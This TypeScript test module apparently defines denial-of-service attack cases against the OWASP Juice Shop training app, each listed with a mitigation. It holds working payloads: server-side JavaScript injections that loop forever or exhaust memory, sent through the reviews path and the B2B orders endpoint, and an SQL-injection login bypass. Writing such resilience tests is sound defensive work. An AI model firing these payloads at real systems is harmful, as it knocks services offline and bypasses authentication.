import { createClient } from '../../support/client.ts';
import type { Stall } from './stall.ts';

/** Attempts that belong to no measure of their own: known ways against all of them at once. */
export const moreStalls: readonly Stall[] = [
  {
    cause: 'a queue without an end',
    through: 'review condition',
    title: 'forty endless loops at once',
    measure: 'an evaluator that is ended at its deadline, and a queue that refuses',
    harm: 'silence',
    controlScale: 0.1,
    attack: async ({ url, scale }) => {
      const condition = encodeURIComponent('(()=>{for(;;);})()');
      await Promise.all(
        Array.from({ length: 40 * scale }, () => createClient(url).get(`/rest/products/${condition}/reviews`)),
      );
    },
  },
  {
    cause: 'a queue without an end',
    through: 'order lines',
    title: 'lists that grow for as long as they may',
    measure: 'an evaluator with a heap of its own',
    harm: 'memory',
    controlScale: 0.25,
    attack: async ({ url }) => {
      const client = createClient(url);
      const token = await client.login("jim@juice-sh.op'--", 'x');
      const orderLinesData = '(()=>{for(let a=[];;)a.push(new Array(1e5).fill(7))})()';
      await client.post('/b2b/v2/orders', { cid: 'JS0815DE', orderLinesData }, { token });
    },
  },
];
